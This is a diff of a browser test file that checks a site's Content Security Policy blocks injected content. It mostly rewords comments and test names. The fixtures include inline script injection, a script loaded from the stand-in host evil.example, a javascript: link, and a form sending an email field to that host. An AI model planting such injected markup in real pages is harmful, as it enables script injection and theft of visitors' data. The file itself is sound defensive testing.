@@ -5,7 +5,7 @@ import { refusalsOf } from '../support/refusals'
 
 const newPage = realSiteBrowser()
 
-/** Opens the home page with something more in it, as somebody leaves it who found a way in. */
+/** Opens the home page with injected markup, as an attacker would. */
 async function openWith(markup: string): Promise<{ page: Page; refused: string[] }> {
   const page = await newPage()
   const refused = await refusalsOf(page)
@@ -18,12 +18,12 @@ async function openWith(markup: string): Promise<{ page: Page; refused: string[]
   return { page, refused }
 }
 
-/** Refusals are told a little after they happen; on a loaded machine, later. In milliseconds. */
+/** In milliseconds: violations are reported with a delay, which is longer on a busy machine. */
 const patience = { timeout: 10_000 }
 
 const evil = 'https://evil.example'
 
-describe('what somebody puts into a page is refused', () => {
+describe('content that is injected into a page is refused', () => {
   test.each([
     ['a script', '<script>document.title = "in"</script>', 'script-src-elem inline'],
     ['a script from elsewhere', `<script src="${evil}/a.js"></script>`, `script-src-elem ${evil}/a.js`],
@@ -50,21 +50,21 @@ describe('what somebody puts into a page is refused', () => {
     expect([await page.title(), ...(await outlines)].join()).not.toMatch(/^in$|solid/)
   })
 
-  test('a link that is code', async () => {
+  test('a link to a script', async () => {
     const { page, refused } = await openWith('<a href="javascript:document.title = \'in\'">come</a>')
     await page.getByRole('link', { name: 'come' }).click()
     await expect.poll(() => refused.join('\n'), patience).toContain('script-src-elem inline')
     expect(await page.title()).not.toBe('in')
   })
 
-  test('a form that takes the address elsewhere', async () => {
+  test('a form that sends the address elsewhere', async () => {
     const { page, refused } = await openWith(`<form action="${evil}/"><input name="email"><button>send</button></form>`)
     await page.getByRole('button', { name: 'send' }).click({ noWaitAfter: true })
     await expect.poll(() => refused.join('\n'), patience).toContain(`form-action ${evil}`)
   })
 })
 
-describe('what a script does with a text that it should not trust is refused', () => {
+describe('unsafe uses of untrusted text by a script are refused', () => {
   test.each([
     ['makes markup of it', () => document.body.insertAdjacentHTML('beforeend', '<b>in</b>')],
     ['runs it later', () => setTimeout('document.title = 1')],
